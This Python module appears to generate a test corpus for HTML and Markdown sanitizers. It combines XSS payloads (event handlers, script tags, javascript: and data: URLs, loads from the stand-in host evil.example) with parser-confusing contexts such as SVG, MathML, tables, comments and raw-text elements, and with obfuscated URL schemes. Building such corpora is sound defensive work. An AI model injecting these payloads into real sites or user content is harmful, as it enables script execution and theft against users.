"""Markup and Markdown that would run a script or load something if a part of it survived, combined from templates.

Every payload calls ``hacked()`` or loads something from ``evil.example``. The surroundings are those in which parsers
change what a text means: foreign content (SVG, MathML), tables, raw text, comments, attributes, and nested forms.
"""

from collections.abc import Iterator
from typing import Final

_HANDLERS: Final = ("onerror", "onload", "onfocus", "ontoggle", "onbegin", "onanimationstart")
_PAYLOADS: Final = (
    *(f"<img src=//evil.example/{each} {each}=hacked()>" for each in _HANDLERS[:2]),
    *(f"<svg {each}=hacked()><animate {each}=hacked() attributeName=x dur=1s>" for each in _HANDLERS[1:5:3]),
    "<details open ontoggle=hacked()><summary>x</summary></details>",
    "<input autofocus onfocus=hacked()>",
    "<script>hacked()</script>",
    "<script src=//evil.example/s.js></script>",
    "<iframe srcdoc='<script>parent.hacked()</script>'></iframe>",
    "<iframe src=javascript:parent.hacked()></iframe>",
    "<object data=//evil.example/o></object>",
    "<a href=javascript:hacked() ping=//evil.example/p>x</a>",
    "<form action=javascript:hacked()><button formaction=javascript:hacked() autofocus>x</button></form>",
    "<style>@import '//evil.example/c.css';</style>",
    "<link rel=stylesheet href=//evil.example/l.css>",
    "<meta http-equiv=refresh content='0;url=//evil.example/m'>",
    "<base href=//evil.example/>",
    "<video autoplay poster=javascript:hacked() src=javascript:hacked() onerror=hacked()></video>",
    "<math><a xlink:href=javascript:hacked()>x</a></math>",
    "<template shadowrootmode=open><img src=x onerror=hacked()></template>",
    "<p style='background:url(//evil.example/b)' onclick=hacked() id=cookie name=cookie>x</p>",
)

_SURROUNDINGS: Final = (
    "{}",
    "<div title='{quoted}'>x</div>",
    '<a title="-->{quoted}" href=x>y</a>',
    "<!-- {} -->",
    "<!-->{}-->",
    "<!--x--!>{}<!-- -->",
    "<![CDATA[{}]]>",
    "<svg><desc>{}</desc></svg>",
    "<svg><title><p>{}</p></title></svg>",
    "<svg><foreignObject><table>{}</table></foreignObject></svg>",
    "<svg><style><a title='</style>{quoted}'></a></style></svg>",
    "<svg></p><style><x alt='</style>{quoted}'>",
    "<math><mi>{}</mi></math>",
    "<math><mtext><table><mglyph><style><!--</style><p title='--&gt;{entities}'>",
    "<math><annotation-xml encoding=text/html>{}</annotation-xml></math>",
    "<math><mtext></p><svg><mglyph><style></math>{}",
    "<form><math><mtext></form><form><mglyph><svg><mtext><style><path id='</style>{quoted}'>",
    "<table><tr><td><table>{}</table></td></tr><p>",
    "<table><caption><svg><title></caption>{}</table>",
    "<select><option><svg>{}</option></select>",
    "<noscript><p title='</noscript>{quoted}'></noscript>",
    "<textarea><p title='</textarea>{quoted}'></textarea>",
    "<title><p title='</title>{quoted}'></title>",
    "<xmp><p title='</xmp>{quoted}'></xmp>",
    "<iframe><p title='</iframe>{quoted}'></iframe>",
    "<template><template>{}</template></template>",
    "<a href=x><table><a href=y>{}</table>",
    "<b><i><b><i></b><p>{}</i>",
    "<h2>{}<h3>{}</h2></h3>",
    "<ul><li>{}<p></ul>{}",
    "<p title=`{quoted}`>",
    "<<p>>{}</<p>",
    "<p\x0c{}>",
    "&lt;p&gt;{}&amp;lt;",
)

_URLS: Final = (
    *("javascript:hacked()", "JAVASCRIPT:hacked()", "javascript&colon;hacked()", "java\tscript:hacked()"),
    *(
        "&#x6a;avascript:hacked()",
        "\x01javascript:hacked()",
        "javascript:%68acked()",
        "javascript:/*--></title>*/hacked()",
    ),
    *("data:text/html,<script>parent.hacked()</script>", "data:image/svg+xml,<svg/onload=hacked()>"),
    *("vbscript:hacked()", "view-source:javascript:hacked()", "filesystem:javascript:hacked()"),
    *("x'onmouseover='hacked()", 'x"onmouseover="hacked()', "x><img src=//evil.example/u onerror=hacked()>"),
)
_MARKDOWN: Final = (
    *("[x]({})", "[x](<{}>)", "![x]({})", "<{}>", "[x][r]\n\n[r]: {}", "[x][r]\n\n[r]: <{}> '{}'", "[![x]({})]({})"),
    *('[x](https://a.example "{}")', "`{}`<{}>", "[`]({})`]({})", "| a |\n|-|\n| [x]({}) |", "[^f]\n\n[^f]: [x]({})"),
    *("## {} {{#id onclick=hacked()}}", "<div>\n[x]({})\n</div>", "<a href='{}'>\n\n*x*\n</a>", "***[x*]({})**"),
)


def hostile_markup() -> Iterator[str]:
    """Yield HTML, SVG and MathML: each payload in each of its surroundings."""
    for payload in _PAYLOADS:
        quoted = payload.replace("'", "&#39;").replace('"', "&quot;").replace("`", "&#96;")
        entities = quoted.replace("<", "&lt;").replace(">", "&gt;")
        for around in _SURROUNDINGS:
            yield around.replace("{quoted}", quoted).replace("{entities}", entities).replace("{}", payload)


def hostile_markdown() -> Iterator[str]:
    """Yield Markdown: each URL in each construct that can have one."""
    for url in _URLS:
        for around in _MARKDOWN:
            yield around.replace("{}", url)
